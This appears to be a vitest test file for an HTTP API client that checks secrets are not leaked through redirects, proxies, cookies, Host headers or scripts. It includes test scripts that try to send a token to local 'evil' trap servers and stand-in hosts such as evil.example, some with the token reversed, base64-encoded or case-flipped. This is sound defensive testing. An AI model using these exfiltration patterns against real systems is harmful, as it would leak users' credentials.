import { createServer } from "node:net";
import { describe, expect, test } from "vitest";
import {
	cannedServer,
	httpServer,
	listen,
} from "../../http/testing/loopback.ts";
import {
	consoleOf,
	type FinishedRun,
	runFiles,
	type Scripts,
	scriptsField,
} from "../testing/run-files.ts";

const TOKEN = "s3cret-Token/with&signs-4711";

/** A server that counts connections: what it must not see is not only a request. */
async function trap() {
	let connections = 0;
	const { url, port } = await listen(
		createServer((socket) => {
			connections += 1;
			socket.destroy();
		}),
	);
	return { url, port, connections: () => connections };
}

/** Answers with a redirect: `/307?to` leads to `elsewhere`, with the query in the way that `to` says. */
async function redirecting(elsewhere: string) {
	return httpServer((message, response) => {
		const { pathname, search } = new URL(message.url ?? "/", "http://a");
		const status = Number(pathname.slice(1, 4));
		message.resume();
		if (Number.isNaN(status)) {
			response.end(`${message.method} ${message.url}`);
			return;
		}
		response.statusCode = status;
		const reflects = pathname.endsWith("/reflect");
		const home = pathname.endsWith("/home");
		response.setHeader(
			"location",
			home ? "/here" : `${elsewhere}/there${reflects ? search : ""}`,
		);
		response.end();
	});
}

/** How a collection knows of its secret. */
const BY_ENVIRONMENT = {
	"environments/dev.yml": `name: dev\nvariables:\n  - name: token\n    value: "${TOKEN}"\n    secret: true\n`,
};
const BY_DECLARATION = {
	"environments/dev.yml": `name: dev\nvariables:\n  - name: token\n    value: "${TOKEN}"\n`,
	"opencollection.yml":
		"info:\n  name: Test\nextensions:\n  curlew:\n    secrets: [{ name: token }]\n",
};

function requestOf(http: string, scripts: Scripts = {}) {
	const runtime = scriptsField(scripts);
	return {
		"a.yml": `info:\n  name: a\nhttp:\n${http.replace(/^/gm, "  ")}\n${runtime && `runtime:\n${runtime}`}`,
	};
}

function resultOf({ events }: FinishedRun) {
	for (const event of events)
		if (event.type === "request-finished") return event.result;
	return undefined;
}

const HEADER = 'headers:\n  - name: X-Shop\n    value: "{{token}}"';

describe("a redirect to another origin", () => {
	for (const [how, files] of [
		["an environment's `secret: true`", BY_ENVIRONMENT],
		["a declaration", BY_DECLARATION],
	] as const)
		test.each([
			[
				"302, in a header",
				`url: "{{other}}/302"\n${HEADER}`,
				"the header X-Shop",
			],
			[
				"307, in a header",
				`url: "{{other}}/307"\n${HEADER}`,
				"the header X-Shop",
			],
			[
				"308, in a header, as base64",
				'url: "{{other}}/308"\nheaders:\n  - name: X-Shop\n    value: "{{basic}}"',
				"the header X-Shop",
			],
			[
				"307, in the body",
				'url: "{{other}}/307"\nmethod: POST\nbody:\n  type: json\n  data: \'{"a": "{{token}}"}\'',
				"the body",
			],
			[
				"308, in a form",
				'url: "{{other}}/308"\nmethod: POST\nbody:\n  type: form-urlencoded\n  data:\n    - name: a\n      value: "{{token}}"',
				"the body",
			],
			[
				"302, in a URL that the server writes it into",
				'url: "{{other}}/302/reflect?key={{token}}"',
				"the URL",
			],
		])(
			`does not take a secret along that is known by ${how}: %s`,
			async (_, http, where) => {
				const evil = await trap();
				const server = await redirecting(evil.url);
				const run = await runFiles(
					{ ...requestOf(http), ...files },
					{
						environment: "dev",
						overrides: {
							other: server.url,
							basic: Buffer.from(`ann:${TOKEN}`).toString("base64"),
						},
					},
				);
				const failure = resultOf(run)?.failure;
				expect(failure).toMatchObject({
					code: "SECRET_NOT_ALLOWED_HERE",
					message: `${server.url} redirects to ${evil.url}, which would get the secret \`token\` in ${where}. A redirect takes no secret to another origin, unless \`allowedHosts\` of the secret names it.`,
					hint: expect.stringContaining(
						`allowedHosts: [127.0.0.1:${server.port}, 127.0.0.1:${evil.port}]`,
					),
				});
				expect(evil.connections()).toBe(0);
			},
		);

	test.each(["admin", "1", "Password"])(
		"is followed where the server's own address has a word that is a secret, too: %s",
		async (word) => {
			const there = await redirecting("");
			const server = await redirecting(`${there.url}/${word}`);
			const run = await runFiles(
				{
					...requestOf('url: "{{other}}/302"', {
						"after-response": "console.log(res.body)",
					}),
					"environments/dev.yml": `name: dev\nvariables:\n  - name: token\n    value: "${word}"\n    secret: true\n`,
				},
				{ environment: "dev", overrides: { other: server.url } },
			);
			expect(resultOf(run)?.failure).toBeUndefined();
			expect(resultOf(run)?.response?.status).toBe(200);
		},
	);

	test("takes no short secret along that it got in its own address", async () => {
		const evil = await trap();
		const server = await redirecting(evil.url);
		const run = await runFiles(
			{
				...requestOf('url: "{{other}}/302/reflect?key={{token}}"'),
				"environments/dev.yml":
					"name: dev\nvariables:\n  - name: token\n    value: hunter\n    secret: true\n",
			},
			{ environment: "dev", overrides: { other: server.url } },
		);
		expect(resultOf(run)?.failure?.code).toBe("SECRET_NOT_ALLOWED_HERE");
		expect(evil.connections()).toBe(0);
	});

	test("takes a secret along where `allowedHosts` names the new origin", async () => {
		const there = await httpServer((message, response) =>
			response.end(String(message.headers["x-shop"])),
		);
		const server = await redirecting(there.url);
		const hosts = `[127.0.0.1:${server.port}, 127.0.0.1:${there.port}]`;
		const run = await runFiles(
			{
				...requestOf(`url: "{{other}}/307"\n${HEADER}`),
				"opencollection.yml": `info:\n  name: Test\nextensions:\n  curlew:\n    secrets: [{ name: token, allowedHosts: ${hosts} }]\n`,
			},
			{ overrides: { other: server.url, token: TOKEN } },
		);
		const result = resultOf(run);
		expect(result?.failure).toBeUndefined();
		expect(result?.response?.status).toBe(200);
	});

	test.each([
		[
			"with a secret in Authorization, which is left out",
			'url: "{{other}}/302"\nauth:\n  type: bearer\n  token: "{{token}}"',
			"GET /there",
		],
		[
			"after a POST, whose body is left out",
			'url: "{{other}}/303"\nmethod: POST\nbody:\n  type: text\n  data: "{{token}}"',
			"GET /there",
		],
		[
			"with a secret at the same origin",
			`url: "{{other}}/307/home"\n${HEADER}`,
			"GET /here",
		],
		[
			"without a secret",
			'url: "{{other}}/307"\nheaders:\n  - name: X-Shop\n    value: plain',
			"GET /there",
		],
	])("is followed %s", async (_, http, answer) => {
		const there = await redirecting("");
		const server = await redirecting(there.url);
		const run = await runFiles(
			{
				...requestOf(http, { "after-response": "console.log(res.body)" }),
				...BY_ENVIRONMENT,
			},
			{ environment: "dev", overrides: { other: server.url } },
		);
		expect(resultOf(run)?.failure).toBeUndefined();
		expect(consoleOf(run)).toEqual([answer]);
	});

	test("takes Authorization along where that is what the request's setting is for", async () => {
		const seen: unknown[] = [];
		const there = await httpServer((message, response) => {
			seen.push(message.headers.authorization);
			response.end();
		});
		const server = await redirecting(there.url);
		const run = await runFiles(
			{
				"a.yml": `info:\n  name: a\nhttp:\n  url: "{{other}}/302"\n  auth:\n    type: bearer\n    token: "{{token}}"\nsettings:\n  forwardAuthorizationHeader: true\n`,
				...BY_ENVIRONMENT,
			},
			{ environment: "dev", overrides: { other: server.url } },
		);
		expect(resultOf(run)?.failure).toBeUndefined();
		expect(seen).toEqual([`Bearer ${TOKEN}`]);
	});

	test.each([
		[
			"sendRequest",
			'await client.sendRequest({ url: other + "/307", method: "POST", data: { token } })',
		],
		["axios", 'await require("axios").post(other + "/308", { token })'],
	])("takes no secret along for a script: %s", async (_, code) => {
		const evil = await trap();
		const server = await redirecting(evil.url);
		const run = await runFiles(
			{
				...requestOf('url: "{{host}}/plain"', {
					"before-request": `const other = client.getEnvVar("other"); const token = client.getEnvVar("token");
try { ${code}; } catch (error) { console.log(error.code + " " + error.message); }`,
				}),
				...BY_DECLARATION,
			},
			{ environment: "dev", overrides: { other: server.url } },
		);
		expect(consoleOf(run).join("\n")).toContain("redirects to");
		expect(evil.connections()).toBe(0);
	});

	test("does not take a secret along in the method", async () => {
		const evil = await trap();
		// node:http's server takes registered methods only.
		const server = await cannedServer(
			`HTTP/1.1 307 There\r\nlocation: ${evil.url}/\r\ncontent-length: 0\r\n\r\n`,
		);
		const run = await runFiles(
			{
				...requestOf('url: "{{other}}/307"\nmethod: "{{verb}}"'),
				"environments/dev.yml":
					"name: dev\nvariables:\n  - name: verb\n    value: s3cret-Verb\n    secret: true\n",
			},
			{ environment: "dev", overrides: { other: server.url } },
		);
		expect(resultOf(run)?.failure?.message).toContain(
			"the secret `verb` in the method",
		);
		expect(evil.connections()).toBe(0);
	});

	test("takes no secret along when a token is obtained", async () => {
		const evil = await trap();
		const server = await redirecting(evil.url);
		const run = await runFiles(
			{
				...requestOf(
					'url: "{{host}}/"\nauth:\n  type: oauth2\n  flow: client_credentials\n  accessTokenUrl: "{{other}}/307"\n  credentials:\n    clientId: me\n    clientSecret: "{{token}}"\n    placement: body',
				),
				...BY_ENVIRONMENT,
			},
			{ environment: "dev", overrides: { other: server.url } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("but status 307");
		expect(evil.connections()).toBe(0);
	});

	test.each([
		["that a script has set", "", true],
		["that its server has set", "sid={{token}}", true],
		[
			"that its server has set for all of the host",
			"sid={{token}}; Domain=127.0.0.1",
			true,
		],
		["without a secret", "sid=plain", false],
	])(
		"looks at cookies from another port: one %s",
		async (_, cookie, isRefused) => {
			const seen: unknown[] = [];
			const there = await httpServer((message, response) => {
				seen.push(message.headers.cookie);
				response.end();
			});
			const server = await httpServer((_message, response) => {
				if (cookie !== "")
					response.setHeader("set-cookie", cookie.replace("{{token}}", TOKEN));
				response.writeHead(307, { location: there.url }).end();
			});
			const code =
				'await client.cookies.jar().setCookie(client.getEnvVar("other") + "/", "sid", client.getEnvVar("token"));';
			const run = await runFiles(
				{
					...requestOf(
						'url: "{{other}}/307"',
						cookie === "" ? { "before-request": code } : {},
					),
					...BY_ENVIRONMENT,
				},
				{ environment: "dev", overrides: { other: server.url } },
			);
			const message = resultOf(run)?.failure?.message;
			if (isRefused)
				expect(message).toContain("the secret `token` in the header cookie");
			expect(seen).toEqual(isRefused ? [] : ["sid=plain"]);
		},
	);

	test("finds a secret that was captured from a response", async () => {
		const evil = await trap();
		const server = await httpServer((message, response) => {
			if (message.url === "/login") {
				response.setHeader("content-type", "application/json");
				response.end('{"session":"9f86d0818-84c7d659a-2feaa0c55"}');
				return;
			}
			response.writeHead(307, { location: evil.url }).end();
		});
		const run = await runFiles(
			{
				"opencollection.yml":
					"info:\n  name: Test\nextensions:\n  curlew:\n    secrets:\n      session:\n        captures: [res.body.session]\n",
				"a.yml":
					'info:\n  name: a\n  seq: 1\nhttp:\n  url: "{{other}}/login"\nruntime:\n  scripts:\n    - type: after-response\n      code: client.setVar("session", res.body.session)\n',
				"b.yml":
					'info:\n  name: b\n  seq: 2\nhttp:\n  url: "{{other}}/"\n  headers:\n    - name: X-Shop\n      value: "{{session}}"\n',
			},
			{ overrides: { other: server.url } },
		);
		const told = JSON.stringify(run.events);
		expect(told).toContain("which would get the secret `session`");
		expect(evil.connections()).toBe(0);
	});
});

/** A collection whose secret may be sent to some hosts, and a request of it. */
function guarded(
	hosts: string,
	http: string,
	more = "",
	scripts: Scripts = {},
) {
	return {
		...requestOf(http, scripts),
		"opencollection.yml": `info:\n  name: Test\n${more}extensions:\n  curlew:\n    secrets:\n      token:\n        allowedHosts: [${hosts}]\n`,
	};
}

const SCRIPT_TOKEN = "s3cretTokenOfFourtySevenEleven";

describe("a secret with allowedHosts is found", () => {
	test.each([
		["in capitals", "token.toUpperCase()"],
		["in small letters", "token.toLowerCase()"],
		["backwards", '[...token].reverse().join("")'],
		["backwards, as base64", 'btoa([...token].reverse().join(""))'],
		[
			"with its case turned round",
			"token.replace(/[a-z]/gi, (l) => l === l.toUpperCase() ? l.toLowerCase() : l.toUpperCase())",
		],
	])("in a URL %s", async (_, making) => {
		const evil = await trap();
		const run = await runFiles(
			guarded("localhost:1", 'url: "{{evil}}/plain"', "", {
				"before-request": `const token = client.getSecretVar("token"); req.setUrl(client.getEnvVar("evil") + "/" + ${making});`,
			}),
			{ overrides: { token: SCRIPT_TOKEN, evil: evil.url } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("SECRET_NOT_ALLOWED_HERE");
		expect(evil.connections()).toBe(0);
	});

	test("in the method", async () => {
		const evil = await trap();
		const run = await runFiles(
			guarded("localhost:1", 'url: "{{evil}}/"\nmethod: "{{token}}"'),
			{ overrides: { token: SCRIPT_TOKEN, evil: evil.url } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("SECRET_NOT_ALLOWED_HERE");
		expect(evil.connections()).toBe(0);
	});

	test("in the name of a host, before it is looked up", async () => {
		const run = await runFiles(
			guarded("api.example.com", 'url: "http://{{token}}.evil.invalid/"'),
			{ overrides: { token: SCRIPT_TOKEN } },
		);
		expect(JSON.stringify(resultOf(run))).toContain("SECRET_NOT_ALLOWED_HERE");
	});

	test.each(["header", "sendRequest"])(
		"where a Host header (%s) leads it to somebody else",
		async (way) => {
			const server = await httpServer((_message, response) => response.end());
			const headers =
				way === "header"
					? '\nheaders:\n  - name: Host\n    value: evil.example\n  - name: X\n    value: "{{token}}"'
					: "";
			const run = await runFiles(
				guarded(
					"loopback",
					`url: "{{other}}/"${headers}`,
					"",
					way === "header"
						? {}
						: {
								"before-request": `try { await client.sendRequest({ url: client.getEnvVar("other"), headers: { host: "evil.example", x: client.getSecretVar("token") } }); } catch (error) { console.log(error.message); }`,
							},
				),
				{ overrides: { token: SCRIPT_TOKEN, other: server.url } },
			);
			const told = JSON.stringify([resultOf(run), consoleOf(run)]);
			expect(told).toContain(
				"to http://evil.example. It may be sent to loopback only",
			);
		},
	);
});

describe("a proxy that the collection chooses", () => {
	const proxy = (port: number) =>
		`config:\n  proxy:\n    inherit: false\n    config:\n      protocol: http\n      hostname: 127.0.0.1\n      port: ${port}\n`;

	test("does not see a secret that may not be sent to it", async () => {
		const evil = await trap();
		const run = await runFiles(
			guarded(
				"api.example.com",
				'url: "http://api.example.com/"\nheaders:\n  - name: X\n    value: "{{token}}"',
				proxy(evil.port),
			),
			{ overrides: { token: SCRIPT_TOKEN } },
		);
		expect(resultOf(run)?.failure).toMatchObject({
			code: "SECRET_NOT_ALLOWED_HERE",
			message: `The collection's proxy, in the header X, would send the secret \`token\` to http://127.0.0.1:${evil.port}. It may be sent to api.example.com only.`,
		});
		expect(evil.connections()).toBe(0);
	});

	test("may tunnel what is encrypted", async () => {
		const evil = await trap();
		const run = await runFiles(
			guarded(
				"api.example.com",
				'url: "https://api.example.com/"\nheaders:\n  - name: X\n    value: "{{token}}"',
				proxy(evil.port),
			),
			{ overrides: { token: SCRIPT_TOKEN } },
		);
		expect(resultOf(run)?.failure?.code).toBe("PROXY_FAILED");
		expect(evil.connections()).toBeGreaterThan(0);
	});

	test("is the user's own affair where the user has chosen it", async () => {
		const own = await trap();
		const run = await runFiles(
			guarded(
				"api.example.com",
				'url: "http://api.example.com/"\nheaders:\n  - name: X\n    value: "{{token}}"',
			),
			{
				overrides: { token: SCRIPT_TOKEN },
				http: {
					proxy: {
						kind: "on",
						protocol: "http",
						hostname: "127.0.0.1",
						port: own.port,
						username: undefined,
						password: undefined,
						bypass: "",
					},
				},
			},
		);
		expect(resultOf(run)?.failure?.code).not.toBe("SECRET_NOT_ALLOWED_HERE");
		expect(own.connections()).toBeGreaterThan(0);
	});
});
